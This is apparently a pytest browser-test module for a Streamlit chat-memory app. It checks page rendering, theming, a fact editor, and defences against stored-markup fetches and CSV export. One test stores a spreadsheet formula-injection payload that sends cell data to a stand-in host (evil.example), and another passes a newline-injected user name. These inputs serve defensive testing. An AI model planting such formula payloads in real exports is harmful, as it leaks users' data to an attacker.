"""The real app in a real browser: `streamlit run`, headless Chromium, every page, screenshots.

The app is the one every browser module shares (the ``walkthrough`` fixture); a test that stores something
does it under a user of its own.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from memory.backends.redis_server import free_port
from ui.layout import LINKS

from .browser_app import CHROMIUM, SHOTS, idle, new_page, say, serve

# (address path, heading) of every page, and the sidebar's link labels in order: ui/layout.py's one list
PAGES = [("" if path == "app.py" else Path(path).stem, link.title) for path, link in LINKS.items()]
NAV_LABELS = [link.label for link in LINKS.values()]

pytestmark = pytest.mark.skipif(
    CHROMIUM is None,
    reason="Chromium is not installed (Debian package 'chromium'); `make test` installs it where it can",
)


@pytest.fixture()
def page(chromium):
    page = new_page(chromium, viewport={"width": 1400, "height": 1000})
    try:
        yield page
    finally:
        page.context.close()


@pytest.fixture()
def served(walkthrough):
    return walkthrough.url


def test_every_page_renders_in_chromium(served, page):
    SHOTS.mkdir(parents=True, exist_ok=True)
    outside: list[str] = []
    page.on("request", lambda r: outside.append(r.url) if not _local(r.url) else None)
    say(page, served + "chat?user=alice&session=s1", "My name is Alice.")
    idle(page)
    for path, title in PAGES:
        page.goto(served + path)
        page.wait_for_selector("text=Backends", timeout=120_000)
        page.get_by_role("heading", name=title, level=1).wait_for(timeout=60_000)
        idle(page)
        assert page.locator("[data-testid=stException]").count() == 0, f"exception box on {title}"
        assert _nav_links(page) == NAV_LABELS, f"the grouped links on a deep link to {title}"
        page.screenshot(path=str(SHOTS / f"{path or 'home'}.png"), full_page=True)
        assert (SHOTS / f"{path or 'home'}.png").stat().st_size > 10_000
    page.goto(served + "chat?user=alice&session=s1")
    page.wait_for_selector("text=Backends", timeout=120_000)
    idle(page)
    messages = page.get_by_test_id("stChatMessage")
    messages.nth(1).wait_for(timeout=60_000)  # the reply, after the page has settled
    shown = messages.all_inner_texts()
    assert len(shown) == 2 and "Alice" in shown[1], shown
    assert outside == [], f"requests left 127.0.0.1: {outside[:5]}"


def _nav_links(page) -> list[str]:
    """The labels of the sidebar's page links, in order (the default page list is hidden)."""
    assert page.get_by_test_id("stSidebarNav").count() == 0, "Streamlit's own page list is showing"
    links = page.locator("[data-testid=stSidebar] [data-testid=stPageLink] a")
    links.first.wait_for(timeout=30_000)
    texts = links.all_inner_texts()
    return [t.strip().splitlines()[-1] for t in texts]  # the icon's ligature name comes first


def test_a_deep_link_with_redis_down_shows_the_sidebar_and_the_banner(tmp_path, page):
    """Each page file runs alone on a deep link; it must still draw the shared sidebar and the banner."""
    down = f"redis://127.0.0.1:{free_port()}/0"
    env = dict(os.environ, MEMLAB_DATA_DIR=str(tmp_path / "data"), REDIS_URL=down)
    server = serve(env, tmp_path)
    url = next(server)
    try:
        for path, title in PAGES:
            page.goto(url + path)
            page.get_by_role("heading", name=title, level=1).wait_for(timeout=120_000)
            idle(page)
            banner = page.get_by_test_id("stAlertContentError").all_inner_texts()
            assert any("Redis is unreachable" in b for b in banner), (title, banner)
            assert page.locator("[data-testid=stException]").count() == 0, f"exception box on {title}"
            assert _nav_links(page) == NAV_LABELS, title
            assert page.get_by_test_id("stSidebar").get_by_text("User & session").count() == 1
    finally:
        server.close()


def _local(url: str) -> bool:
    from urllib.parse import urlparse

    return urlparse(url).scheme in ("data", "blob", "about") or urlparse(url).hostname in ("127.0.0.1", "localhost")


def test_pages_follow_a_dark_system_theme(served, chromium):
    """No theme is pinned: a browser that prefers dark gets the dark theme (screenshots for review)."""
    SHOTS.mkdir(parents=True, exist_ok=True)
    page = new_page(chromium, viewport={"width": 1400, "height": 1000}, color_scheme="dark")
    try:
        for path, title in PAGES:
            page.goto(served + path)
            page.get_by_role("heading", name=title, level=1).wait_for(timeout=120_000)
            idle(page)
            background = page.evaluate(
                "getComputedStyle(document.querySelector('[data-testid=stApp]')).backgroundColor"
            )
            assert background == "rgb(15, 20, 25)", (title, background)
            page.screenshot(path=str(SHOTS / f"dark-{path or 'home'}.png"), full_page=True)
    finally:
        page.context.close()


@pytest.fixture()
def pixel_server():
    """A local HTTP server that counts every request: an image fetched from stored text shows up here."""
    import http.server
    import socketserver
    import threading

    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # the stdlib's name
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = socketserver.TCPServer(("127.0.0.1", free_port()), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], hits
    finally:
        server.shutdown()
        server.server_close()


def test_stored_markup_is_never_fetched_by_the_browser(walkthrough, page, pixel_server):
    import json

    import redis

    from memory.lab import MemoryLab

    port, hits = pixel_server
    image = f"![x](http://127.0.0.1:{port}/pixel.png)"
    lab = MemoryLab(walkthrough.settings)
    raw = redis.Redis.from_url(walkthrough.settings.redis_url)
    try:
        lab.chat("markup", "s1", f"Typed by the user: {image} and https://example.com/a_b.html", strategy="summary")
        k, u = lab.keys.session("markup", "s1"), lab.keys.user("markup")
        entry = json.dumps({"v": image, "id": "x", "role": "user", "content": image, "created_at": 1})
        for key in (k.log, k.buffer, k.folds, u.fact_log):
            raw.rpush(key, entry)
        raw.hset(k.traces, "x", json.dumps({"strategy": image, "warnings": [image]}))
    finally:
        raw.close()
        lab.close()
    page.set_viewport_size({"width": 1400, "height": 2000})
    for path in ("", "chat", "summaries", "redis_keys", "vector_memory"):
        page.goto(walkthrough.url + path + "?user=markup&session=s1")
        page.wait_for_selector("text=Backends", timeout=120_000)
        idle(page)
        assert page.locator("[data-testid=stException]").count() == 0
    page.goto(walkthrough.url + "chat?user=markup&session=s1")
    page.wait_for_selector("text=Backends", timeout=120_000)
    idle(page)
    page.screenshot(path=str(SHOTS / "stored-markup.png"))
    link = page.locator("a[href='https://example.com/a_b.html']")
    assert link.count() >= 1, "a URL the user typed stays a link, unescaped"
    assert hits == [], f"the browser fetched {hits} from stored text"


def _pick(page, combobox: str, option: str) -> None:
    """Choose ``option`` in the selectbox labelled ``combobox`` (the list may need a second click to open)."""
    for _ in range(4):
        page.get_by_role("combobox", name=combobox, exact=True).click()
        try:
            page.get_by_role("option", name=option).first.click(timeout=4000)
            idle(page)
            return
        except Exception:  # noqa: BLE001 - playwright's timeout: the list did not open, try again
            page.keyboard.press("Escape")
    pytest.fail(f"could not pick {option!r} in {combobox!r}")


def test_a_refused_link_and_the_fact_editor_in_chromium(settings, tmp_path, page):
    """A link naming an invalid user opens nothing; the editor follows the picked fact through edits and undo.

    An app of its own, started after the facts are written: an embedded Chroma that another process has open
    does not see what this process adds to it."""
    from playwright.sync_api import expect

    from memory.lab import MemoryLab

    SHOTS.mkdir(parents=True, exist_ok=True)
    page.set_viewport_size({"width": 1400, "height": 900})
    lab = MemoryLab(settings)
    server = serve(dict(os.environ, MEMLAB_DATA_DIR=str(settings.data_dir), REDIS_URL=settings.redis_url), tmp_path)
    try:
        lab.facts.restore("rita", "a" * 32, "The user's name is Rita.", "name", "s1", event="ADD")
        lab.facts.restore("rita", "b" * 32, "The user lives in Malmö.", "location", "s1", event="ADD")
        url = next(server)  # the app starts now, after the facts are in its data folder
        page.goto(url + "chat?user=al%0Aice&session=s1")
        page.get_by_role("heading", name="Chat playground", level=1).wait_for(timeout=120_000)
        idle(page)
        errors = page.get_by_test_id("stAlertContentError").all_inner_texts()
        assert any("al\\nice" in e and "was not opened" in e for e in errors), errors
        assert page.get_by_test_id("stChatInputTextArea").count() == 0, "nothing can be sent under any user"
        page.screenshot(path=str(SHOTS / "refused-link.png"))

        page.goto(url + "vector_memory?user=rita&session=s1")
        page.get_by_role("heading", name="Vector memory", level=1).wait_for(timeout=120_000)
        idle(page)
        _pick(page, "Fact", "Malmö")
        box = page.get_by_role("textbox", name="New text")
        assert box.input_value() == "The user lives in Malmö."
        box.fill("The user lives in Malmö,")
        box.press("End")
        box.press("Enter")  # a line break in the box, not a save
        box.type("Sweden.")
        idle(page)
        assert [e.event for e in lab.facts.history("rita").items] == ["ADD", "ADD"]
        page.get_by_role("button", name="Save the edit").dblclick()
        idle(page)
        assert [e.event for e in lab.facts.history("rita").items] == ["ADD", "ADD", "EDIT"]
        query = page.get_by_role("textbox", name="Query")
        query.fill("where do I live")
        query.press("Enter")  # another widget: the editor stays on the edited fact, with its text of now
        idle(page)
        picked = page.get_by_role("combobox", name="Fact", exact=True).input_value()
        assert picked.startswith("The user lives in Malmö, Sweden."), picked
        assert page.get_by_role("textbox", name="New text").input_value() == "The user lives in Malmö, Sweden."
        page.get_by_role("heading", name="Edit, undo, take away").scroll_into_view_if_needed()
        page.screenshot(path=str(SHOTS / "fact-editor.png"))
        page.get_by_role("button", name="Undo the last change").click()
        idle(page)
        assert {r.id: r.text for r in lab.facts.all("rita")}["b" * 32] == "The user lives in Malmö."
        # the undo reruns the page once more (its text of now goes into the box): wait for that run's value
        expect(page.get_by_role("textbox", name="New text")).to_have_value("The user lives in Malmö.", timeout=30_000)
        assert page.locator("[data-testid=stException]").count() == 0
    finally:
        server.close()
        lab.close()


def test_no_table_offers_a_download_of_stored_text_as_it_is(walkthrough, page):
    """st.dataframe's toolbar "Download as CSV" writes cells as they are (``=HYPERLINK(…)`` stays a formula):
    tables offer none; the page's own CSV export (neutralised) is the way to download the trail."""
    from memory.lab import MemoryLab

    lab = MemoryLab(walkthrough.settings)
    try:
        lab.chat("csvu", "c1", '=HYPERLINK("http://evil.example/?x="&A1,"click")', strategy="buffer")
    finally:
        lab.close()
    for path in ("audit?user=csvu", "redis_keys?user=csvu&session=c1"):
        page.goto(walkthrough.url + path)
        page.wait_for_selector("[data-testid=stDataFrame]", timeout=120_000)
        idle(page)
        frame = page.locator("[data-testid=stDataFrame]").first
        frame.hover()
        toolbar = page.locator("[data-testid=stElementToolbar]").first
        toolbar.wait_for(timeout=30_000)
        labels = toolbar.locator("button").evaluate_all("els => els.map(e => e.getAttribute('aria-label'))")
        assert "Search" in labels and "Download as CSV" not in labels, (path, labels)
